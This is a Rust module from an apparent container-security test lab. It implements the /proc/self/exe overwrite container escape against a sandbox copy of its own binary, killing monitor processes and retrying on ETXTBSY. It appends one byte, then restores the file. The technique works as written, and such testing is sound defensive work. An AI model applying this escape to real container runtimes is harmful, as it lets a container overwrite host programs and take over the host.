//! A program of the host that is executed in a container, overwritten from inside: whoever
//! starts it next on the host starts what the attacker has written.
//!
//! The victim is a copy of `lab` in the sandbox; a byte is added at its end. The attacker
//! has to wait until nobody executes the file any more, so who runs it is killed meanwhile.

use std::fs::{self, File};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::Command;
use std::thread::sleep;
use std::time::{Duration, Instant};

use nix::errno::Errno;
use nix::fcntl::{FcntlArg, FdFlag, fcntl};
use nix::sys::prctl;
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use process::{Error, Result, Step};

use super::attacker::{number, tell_host};
use super::cell::Finding;
use super::conversation::Conversation;
use super::places::LAB;
use super::target::{DEADLINE, Said, Target};

/// The program that is attacked.
pub const RUNTIME: &str = "/runtime";

/// The way to the program of whoever looks: until exec, a container's process is ours.
pub const OURSELVES: &str = "/proc/self/exe";

/// How long the attacker waits for the file to be free.
const PATIENCE: Duration = Duration::from_secs(2);

/// Puts the program there.
pub fn install() -> Result<()> {
    if !Path::new(RUNTIME).exists() {
        fs::copy(LAB, RUNTIME).step(|| format!("copy {LAB} to {RUNTIME}"))?;
    }
    Ok(())
}

/// Starts the program as `command`, by which [`overwrite`] comes to run in a container, and
/// looks what has become of it.
pub fn attack(target: &Target<'_>, command: Command) -> Result<Finding> {
    let mut attacker = Conversation::begin(target, command)?;
    // It says so when it has the file open.
    let said = if attacker.hear()?.is_some() {
        attacker.runtime.kill().step(|| "kill the runtime")?;
        if kill_monitors()? == 0 {
            attacker.end(target)?
        } else {
            // What it says goes the way of the monitor; what it does is seen.
            wait_for_attackers()?;
            Said(Err("it has tried, and the program is as it was".to_owned()))
        }
    } else {
        attacker.end(target)?
    };
    let (length, whole) = (length(RUNTIME)?, length(LAB)?);
    if length != whole {
        let file = File::options().write(true).open(RUNTIME);
        file.and_then(|file| file.set_len(whole)).step(|| format!("restore {RUNTIME}"))?;
    }
    Ok(said.judged(length != whole, "the runtime's program has been changed"))
}

/// From chapter 11 on, the runtime is another process of that program than the one that was
/// started. How many there were.
fn kill_monitors() -> Result<usize> {
    let file = |path: &Path| fs::metadata(path).ok().map(|file| (file.dev(), file.ino()));
    let program = file(Path::new(RUNTIME));
    let is_one = |process: &Path| {
        let is_called_so = fs::read(process.join("comm")).is_ok_and(|it| it == b"lab:monitor\n");
        is_called_so && file(&process.join("exe")) == program
    };
    let monitors = processes(is_one)?;
    for monitor in &monitors {
        kill(*monitor, Signal::SIGKILL).step(|| "kill the monitor")?;
    }
    Ok(monitors.len())
}

/// Waits for the end of those who attack in this sandbox.
fn wait_for_attackers() -> Result<()> {
    let start = Instant::now();
    let attacks = |process: &Path| {
        let words = fs::read(process.join("cmdline")).unwrap_or_default();
        words.split(|&byte| byte == 0).any(|word| word == b"--inside")
    };
    while !processes(attacks)?.is_empty() {
        if start.elapsed() > DEADLINE {
            return Err(Error::new("the attacker did not come to an end in time"));
        }
        sleep(Duration::from_millis(1));
    }
    Ok(())
}

/// The processes of this sandbox that are meant, by their directories in /proc.
fn processes(is_meant: impl Fn(&Path) -> bool) -> Result<Vec<Pid>> {
    let entries = fs::read_dir("/proc").step(|| "list /proc")?.flatten();
    let meant = entries.filter(|entry| is_meant(&entry.path()));
    Ok(meant.filter_map(|it| it.file_name().to_str()?.parse().ok()).map(Pid::from_raw).collect())
}

/// The attacker's side, which has to be started by way of [`OURSELVES`], and then once more:
/// with the same orders, and one word.
pub fn overwrite(orders: &[&str], words: &[String]) -> Result<String> {
    if words.is_empty() { become_another(orders) } else { write(number(words)?) }
}

/// As the runtime's program: keeps a way to it, and executes another.
fn become_another(orders: &[&str]) -> Result<String> {
    // Otherwise we would end with the runtime.
    prctl::set_pdeathsig(None).step(|| "give up the parent-death signal")?;
    let file = File::open(OURSELVES).step(|| format!("open {OURSELVES}"))?;
    fcntl(&file, FcntlArg::F_SETFD(FdFlag::empty())).step(|| "keep it open over exec")?;
    let fd = file.as_raw_fd().to_string();
    let error = Command::new(LAB).args(["attack", "--inside"]).args(orders).arg(fd).exec();
    Err(error).step(|| format!("execute {LAB}"))
}

fn write(fd: usize) -> Result<String> {
    let path = format!("/proc/self/fd/{fd}");
    tell_host("")?;
    let start = Instant::now();
    let mut file = loop {
        match File::options().append(true).open(&path) {
            Err(error)
                if error.raw_os_error() == Some(Errno::ETXTBSY as i32)
                    && start.elapsed() < PATIENCE =>
            {
                sleep(Duration::from_millis(1));
            }
            file => break file.step(|| "open the runtime's program for writing")?,
        }
    };
    file.write_all(b"!").step(|| "write to the runtime's program")?;
    Ok("overwritten".to_owned())
}

fn length(path: &str) -> Result<u64> {
    let metadata = fs::metadata(path).step(|| format!("look at {path}"))?;
    Ok(metadata.len())
}
